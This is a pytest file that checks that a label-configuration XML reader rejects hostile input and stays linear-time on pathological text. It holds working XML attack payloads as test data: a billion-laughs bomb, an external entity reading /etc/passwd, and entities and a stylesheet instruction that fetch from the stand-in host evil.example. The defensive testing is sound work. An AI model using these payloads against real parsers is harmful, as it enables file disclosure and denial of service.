import contextlib
import time

import pytest

from platform_core.projects.label_config.errors import InvalidLabelConfigError
from platform_core.projects.label_config.parser import parse_label_config
from platform_core.projects.label_config.tree import MAX_BYTES, MAX_DEPTH, read_tree

BOMB = (
    '<!DOCTYPE v [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><View><Header>&j;</Header></View>"
)
MANY_ATTRIBUTES = " ".join(f"a{number}='1'" for number in range(65))

HOSTILE = {
    "billion laughs": (BOMB, "dtd"),
    "external entity": (
        '<!DOCTYPE v [<!ENTITY x SYSTEM "file:///etc/passwd">]><View><Header>&x;</Header></View>',
        "dtd",
    ),
    "parameter entity": ('<!DOCTYPE v [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><View/>', "dtd"),
    "bare doctype": ("<!DOCTYPE View><View/>", "dtd"),
    "public doctype": ('<!DOCTYPE html PUBLIC "x" "http://evil.example/x.dtd"><View/>', "dtd"),
    "undefined entity": ("<View>&nbsp;</View>", "not_well_formed"),
    "processing instruction": ('<?xml-stylesheet href="http://evil.example/x.xsl"?><View/>', "processing_instruction"),
    "processing instruction inside": ("<View><?php echo 1 ?></View>", "processing_instruction"),
    "default namespace": ('<View xmlns="http://www.w3.org/1999/xhtml"/>', "namespace"),
    "prefixed namespace": ('<View xmlns:x="urn:x"><x:script/></View>', "namespace"),
    "unbound prefix": ("<View><x:script/></View>", "not_well_formed"),
    "20,000 nested tags": ("<View>" * 20_000 + "</View>" * 20_000, "too_deep"),
    "one tag too deep": ("<View>" * (MAX_DEPTH + 1) + "</View>" * (MAX_DEPTH + 1), "too_deep"),
    "ten megabytes": (f"<View>{'a' * 10_000_000}</View>", "too_large"),
    "a byte too much": (f"<View>{'a' * (MAX_BYTES - 12)}</View>", "too_large"),
    "too large in bytes only": (f"<View>{'é' * (MAX_BYTES // 2)}</View>", "too_large"),
    "too many tags": (f"<View>{'<a/>' * 10_000}</View>", "too_many_tags"),
    "too many attributes": (f"<View {MANY_ATTRIBUTES}/>", "too_many_attributes"),
    "NUL": ("<View>\x00</View>", "not_well_formed"),
    "NUL as a reference": ("<View>&#0;</View>", "not_well_formed"),
    "control character": ("<View>\x1b</View>", "not_well_formed"),
    "lone surrogate": ("<View>\ud800</View>", "not_well_formed"),
    "lone surrogate as a reference": ("<View>&#xD800;</View>", "not_well_formed"),
    "unclosed": ("<View>", "not_well_formed"),
    "two roots": ("<View/><View/>", "not_well_formed"),
    "attribute twice": ('<View a="1" a="2"/>', "not_well_formed"),
    "plain text": ("hello", "not_well_formed"),
    "only a comment": ("<!-- -->", "not_well_formed"),
    "empty": ("", "empty"),
    "blank": (" \n", "empty"),
    "nothing": (None, "not_text"),
    "bytes": (b"<View/>", "not_text"),
    "a number": (7, "not_text"),
}


@pytest.mark.parametrize(("xml", "code"), HOSTILE.values(), ids=HOSTILE)
def test_read_tree_refuses(xml, code):
    with pytest.raises(InvalidLabelConfigError) as refused:
        read_tree(xml)

    assert [issue.code for issue in refused.value.issues] == [code]


@pytest.mark.parametrize(
    "text",
    [
        "&lt;" * 60_000,
        "/*" * 120_000,
        "<" + " " * 200_000,
        " onaaa" * 40_000,
        "javascript" * 20_000,
        "&amp;" * 40_000,
        "\\" * 200_000,
    ],
    ids=["angles", "comments", "spaces", "handlers", "scripts", "entities", "backslashes"],
)
@pytest.mark.parametrize("place", ['<Header style="{}"/>', "<Style>{}</Style>", '<Text name="{0}" value="${0}"/>'])
def test_parse_label_config_takes_linear_time_on_hostile_text(place, text):
    body = place.format(text.replace("<", "&lt;"))[: MAX_BYTES - 100]
    begin = time.thread_time()
    with contextlib.suppress(InvalidLabelConfigError):
        parse_label_config(f"<View>{body}</View>")

    assert time.thread_time() - begin < 2


def test_read_tree_accepts_what_stays_at_the_limits():
    deepest = read_tree("<View>" * MAX_DEPTH + "</View>" * MAX_DEPTH)
    largest = read_tree(f"<View>{'a' * (MAX_BYTES - 13)}</View>")

    assert deepest.tag == "View"
    assert len(largest.text) == MAX_BYTES - 13


def test_read_tree_reads_a_declaration_whatever_encoding_it_claims():
    root = read_tree('<?xml version="1.0" encoding="utf-16"?>\n<View>é<Header value="ü"/></View>')

    assert root.text == "é"
    assert (root.children[0].attributes["value"], root.children[0].line) == ("ü", 2)


def test_read_tree_numbers_siblings_of_one_name():
    root = read_tree("<View><A/><B/><A/></View>")

    assert [child.path for child in root.children] == ["View/A[1]", "View/B[1]", "View/A[2]"]
